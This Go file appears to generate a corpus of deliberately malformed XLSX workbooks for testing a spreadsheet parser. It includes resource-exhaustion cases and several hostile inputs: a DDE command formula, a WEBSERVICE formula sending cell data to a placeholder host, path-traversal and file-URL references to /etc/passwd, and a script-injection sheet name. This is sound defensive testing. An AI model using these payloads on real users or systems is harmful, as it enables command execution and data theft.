package hostile

import (
	"fmt"
	"strings"
)

func (m *maker) sheets() {
	m.spoiled("absurd dimension", false, func(b *book) {
		b.change(sheetName, "<sheetData>", `<dimension ref="A1:XFD1048576"/><sheetData>`)
	})
	m.spoiled("dimension of nothing", false, func(b *book) { b.change(sheetName, "<sheetData>", `<dimension ref="XFE0:-1"/><sheetData>`) })
	m.more("one cell at XFD1048576", false, `<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`)
	for _, ref := range []string{"A0", "ZZZZ1", "Ａ５", "A1048577", "XFE5", "", "5", "A", "A5:B6", "$A$5", "a5", "A99999999999999999999"} {
		m.more(fmt.Sprintf("reference %q", ref), false, `<row r="5"><c r="`+ref+`"><v>1</v></c></row>`)
	}
	for _, n := range []string{"0", "-1", "1048577", "4294967297", "x", ""} {
		m.more(fmt.Sprintf("row number %q", n), false, `<row r="`+n+`"><c r="A5"><v>1</v></c></row>`)
	}
	m.more("duplicate row", true, `<row r="4"><c r="A4"><v>1</v></c></row>`)
	m.more("rows out of order", false, `<row r="9"><c r="A9"><v>1</v></c></row><row r="7"><c r="A7"><v>1</v></c></row>`)
	m.more("duplicate cell", true, `<row r="5"><c r="A5"><v>1</v></c><c r="A5"><v>2</v></c></row>`)
	m.more("cells out of order", false, `<row r="5"><c r="C5"><v>1</v></c><c r="A5"><v>2</v></c></row>`)
	m.sheet("two sheetData", true, xmlHead+`<worksheet `+space+`><sheetData>`+rows(m.title)+`</sheetData><sheetData>`+rows(m.title)+`</sheetData></worksheet>`)
	m.sheet("no sheetData", true, xmlHead+`<worksheet `+space+`></worksheet>`)
	var b strings.Builder
	for n := range 1_000_000 {
		fmt.Fprintf(&b, `<row r="%d" s="0" customFormat="1"/>`, n+5)
	}
	m.more("a million styled empty rows", false, b.String())
	b.Reset()
	b.WriteString(`<row r="5">`)
	for n := range 16384 {
		fmt.Fprintf(&b, `<c r="%s5"><v>1</v></c>`, column(n))
	}
	m.more("16,384 columns", true, b.String()+`</row>`)
	b.Reset()
	for n := range 3_200_000 {
		if n%400 == 0 {
			fmt.Fprintf(&b, `<row>`)
		}
		b.WriteString(`<c><v>1</v></c>`)
		if n%400 == 399 {
			b.WriteString(`</row>`)
		}
	}
	m.sheet("millions of cells", true, worksheet(b.String()))
	m.tail("endless columns", false, `<cols><col min="1" max="16384" hidden="1"/><col min="5" max="1"/><col min="-1" max="99999999"/></cols>`)
}

func column(n int) string {
	if n < 26 {
		return string(rune('A' + n))
	}
	return column(n/26-1) + string(rune('A'+n%26))
}

func (m *maker) strings() {
	at := func(index string) string { return `<c r="C3" t="s"><v>` + index + `</v></c>` }
	for _, i := range []string{"1", "-1", "99999999999999999999", "x", "", "0.5"} {
		m.people(fmt.Sprintf("string index %q", i), true, at(i))
	}
	long := strings.Repeat("长", 20_000)
	m.spoiled("amplified string", false, func(b *book) {
		b.set(sharedName, xmlHead+`<sst `+space+`><si><t>`+long+`</t></si></sst>`)
		var r strings.Builder
		for n := range 50_000 {
			fmt.Fprintf(&r, `<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>`, n+5, n+5)
		}
		b.set(sheetName, worksheet(rows(m.title)+r.String()))
	})
	m.spoiled("million strings unused", false, func(b *book) {
		b.set(sharedName, xmlHead+`<sst `+space+`>`+strings.Repeat(`<si><t>x</t></si>`, 1_000_000)+`</sst>`)
	})
	m.spoiled("lying count of strings", false, func(b *book) { b.change(sharedName, "<sst ", `<sst count="4000000000" uniqueCount="4000000000" `) })
	for name, text := range map[string]string{
		"32,768 characters": strings.Repeat("字", 32_768), "a million characters": strings.Repeat("字", 1_000_000),
		"bidi override": "甲\u202e司公限有\u202c", "zero-width": "浙\u200b江\u200d甲\ufeff", "escaped controls": "_x0000__x0001__xFFFF_",
		"tags": "\U000E0041\U000E0042", "combining": "a" + strings.Repeat("\u0301", 30_000), "private use": "\ue000\uf8ff", "noncharacters": "\ufdd0",
	} {
		m.spoiled("text: "+name, false, func(b *book) { b.change(sheetName, "浙江甲机械", text) })
	}
}

func (m *maker) merges() {
	merges := func(refs ...string) string {
		return `<mergeCells><mergeCell ref="` + strings.Join(refs, `"/><mergeCell ref="`) + `"/></mergeCells>`
	}
	var many []string
	for n := range 100_000 {
		many = append(many, fmt.Sprintf("A%d:B%d", n+10, n+10))
	}
	m.tail("100,000 merges", false, merges(many...))
	m.tail("overlapping merges", false, merges("A3:C4", "B3:D5", "A3:A4"))
	m.tail("whole sheet merged", false, merges("A1:XFD1048576"))
	for _, ref := range []string{"A1", "B2:A1", ":", "", "A1:ZZZZ9", "A0:B0", "A1:B2:C3", "A:B", "1:3", "#REF!"} {
		m.tail(fmt.Sprintf("merge %q", ref), false, merges(ref))
	}
}

func (m *maker) formulas() {
	f := func(name string, refused bool, formula, value string) {
		m.people("formula: "+name, refused, `<c r="C3"><f>`+formula+`</f>`+value+`</c>`)
	}
	f("error", true, "1/0", `<v>#DIV/0!</v>`)
	m.people("formula: error typed", true, `<c r="C3" t="e"><f>1/0</f><v>#REF!</v></c>`)
	f("without result", true, "SUM(A1:A9)", "")
	f("circular", true, "C3", "")
	f("DDE", false, `cmd|'/c calc'!A1`, `<v>30</v>`)
	f("WEBSERVICE", false, `WEBSERVICE("http://192.0.2.1/"&amp;A1)`, `<v>30</v>`)
	f("external reference", false, `[1]Sheet1!A1`, `<v>30</v>`)
	f("HYPERLINK", false, `HYPERLINK("http://192.0.2.1/","30")`, `<v>30</v>`)
	f("giant", false, strings.Repeat("1+", 1_000_000)+"1", `<v>30</v>`)
	m.people("formula: array over the sheet", false, `<c r="C3"><f t="array" ref="A1:XFD1048576">1</f><v>30</v></c>`)
	m.people("formula: shared of nothing", false, `<c r="C3"><f t="shared" si="4000000000"/><v>30</v></c>`)
}

func (m *maker) values() {
	for _, v := range []string{"NaN", "INF", "-INF", "1E308", "1E999", "1e-999", "0x10", "１２", "1,2", "--3", "", " 30 ", "3.5", "-3", "9007199254740993", "30000000000000000000"} {
		m.people(fmt.Sprintf("value %q", v), false, `<c r="C3"><v>`+v+`</v></c>`)
	}
	for _, t := range []string{"b", "d", "str", "n", "zz", "inlineStr"} {
		m.people("cell of type "+t, false, `<c r="C3" t="`+t+`"><v>30</v></c>`)
	}
	m.people("style of nothing", false, `<c r="C3" s="4000000000"><v>30</v></c>`)
	m.people("number of an identity card", true, `<c r="C3"><v>5.22301199001011E+17</v></c>`)
	for _, v := range []string{"-5", "0", "60", "2958466", "1E10", "45309.99999999"} {
		m.spoiled("date "+v, false, func(b *book) {
			b.change(stylesName, `<cellXfs count="1"><xf xfId="0"/>`, `<cellXfs count="2"><xf xfId="0"/><xf numFmtId="14" xfId="0"/>`)
			b.change(sheetName, `<c r="A3" t="inlineStr"><is><t>2024-01-18</t></is></c>`, `<c r="A3" s="1"><v>`+v+`</v></c>`)
		})
	}
	m.spoiled("1904 mode", false, func(b *book) { b.change(bookName, "<sheets>", `<workbookPr date1904="1"/><sheets>`) })
	for _, format := range []string{";;;", "&quot;99&quot;", "0000000000", "[Red]" + strings.Repeat("0", 100_000), "@@@@", "[$-F800]", "?/?", `\`, `"`} {
		m.spoiled(fmt.Sprintf("format %.20q", format), false, func(b *book) {
			b.change(stylesName, "<fonts", `<numFmts><numFmt numFmtId="164" formatCode="`+strings.ReplaceAll(format, `"`, "&quot;")+`"/></numFmts><fonts`)
			b.change(stylesName, `<cellXfs count="1"><xf xfId="0"/>`, `<cellXfs count="2"><xf xfId="0"/><xf numFmtId="164" xfId="0"/>`)
			b.change(sheetName, `<c r="C3" t="inlineStr"><is><t>30</t></is></c>`, `<c r="C3" s="1"><v>30</v></c>`)
		})
	}
}

// partsOfMany: what is there a hundred thousand times.
func (m *maker) partsOfMany() {
	repeat := func(format string) string {
		var b strings.Builder
		for n := range 100_000 {
			b.WriteString(strings.ReplaceAll(format, "#", fmt.Sprint(n+10)))
		}
		return b.String()
	}
	m.spoiled("100,000 notes", false, func(b *book) {
		b.set("xl/comments1.xml", xmlHead+`<comments `+space+`><authors><author>x</author></authors><commentList>`+repeat(`<comment ref="A#" authorId="0"><text><t>x</t></text></comment>`)+`</commentList></comments>`)
		b.set("xl/worksheets/_rels/sheet1.xml.rels", xmlHead+`<Relationships xmlns="`+pack+`/relationships"><Relationship Id="rId1" Type="`+links+`/comments" Target="../comments1.xml"/></Relationships>`)
	})
	m.tail("100,000 validations", false, `<dataValidations>`+repeat(`<dataValidation type="list" sqref="A#"><formula1>"x"</formula1></dataValidation>`)+`</dataValidations>`)
	m.tail("100,000 conditional formats", false, repeat(`<conditionalFormatting sqref="A#"><cfRule type="expression" priority="1"><formula>1</formula></cfRule></conditionalFormatting>`))
	m.spoiled("100,000 defined names", false, func(b *book) {
		b.change(bookName, "</sheets>", "</sheets><definedNames>"+repeat(`<definedName name="n#">走访慰问!$A$#</definedName>`)+"</definedNames>")
	})
	m.spoiled("100,000 styles", false, func(b *book) { b.change(stylesName, `<xf xfId="0"/></cellXfs>`, repeat(`<xf xfId="0"/>`)+`</cellXfs>`) })
	m.tail("100,000 links", false, `<hyperlinks>`+repeat(`<hyperlink ref="A#" location="x"/>`)+`</hyperlinks>`)
}

func (m *maker) relations() {
	target := func(name, to, more string) {
		m.spoiled("relation "+name, false, func(b *book) {
			b.change(bookLinks, `Target="worksheets/sheet1.xml"`, `Target="`+to+`"`+more)
		})
	}
	target("external", "http://192.0.2.1/sheet.xml", ` TargetMode="External"`)
	target("upwards", "../../../etc/passwd", "")
	target("UNC", `\\192.0.2.1\share\x.xml`, "")
	target("to itself", "workbook.xml", "")
	target("to its relations", "_rels/workbook.xml.rels", "")
	target("missing", "worksheets/sheet99.xml", "")
	target("empty", "", "")
	target("file URL", "file:///etc/passwd", "")
	m.spoiled("relation loop", false, func(b *book) {
		b.set("xl/worksheets/_rels/sheet1.xml.rels", xmlHead+`<Relationships xmlns="`+pack+`/relationships"><Relationship Id="rId1" Type="`+links+`/comments" Target="sheet1.xml"/><Relationship Id="rId1" Type="`+links+`/drawing" Target="../worksheets/sheet1.xml"/></Relationships>`)
	})
	m.spoiled("100,000 relations", false, func(b *book) {
		b.change(bookLinks, "</Relationships>", strings.Repeat(`<Relationship Id="x" Type="x" Target="x"/>`, 100_000)+"</Relationships>")
	})
	m.spoiled("macro", false, func(b *book) { b.add("xl/vbaProject.bin", "\xd0\xcf\x11\xe0 Attribut") })
}

func (m *maker) names() {
	for _, name := range []string{"a&apos;b", "&lt;script&gt;alert(1)&lt;/script&gt;", "=cmd|x!A1", "..", "", strings.Repeat("长", 300), "a/b:c*?[x]", "\u202e慰问", "走访\u200b慰问"} {
		m.spoiled(fmt.Sprintf("sheet named %.20q", name), false, func(b *book) { b.change(bookName, `name="走访慰问"`, `name="`+name+`"`) })
	}
	two := func(first, second string) func(*book) {
		return func(b *book) {
			b.change(bookName, `<sheet name="走访慰问" sheetId="1" r:id="rId1"/>`, `<sheet name="`+first+`" sheetId="1" r:id="rId1"/><sheet name="`+second+`" sheetId="2" r:id="rId1"/>`)
		}
	}
	m.spoiled("sheets of one name", false, two("走访", "走访"))
	m.spoiled("sheets of one part", false, two("走访", "慰问"))
	m.spoiled("10,000 sheets", true, func(b *book) {
		var sheets, relations strings.Builder
		for n := range 10_000 {
			fmt.Fprintf(&sheets, `<sheet name="s%d" sheetId="%d" r:id="s%d"/>`, n, n+10, n)
			fmt.Fprintf(&relations, `<Relationship Id="s%d" Type="%s/worksheet" Target="worksheets/sheet1.xml"/>`, n, links)
		}
		b.change(bookName, "</sheets>", sheets.String()+"</sheets>")
		b.change(bookLinks, "</Relationships>", relations.String()+"</Relationships>")
	})
}
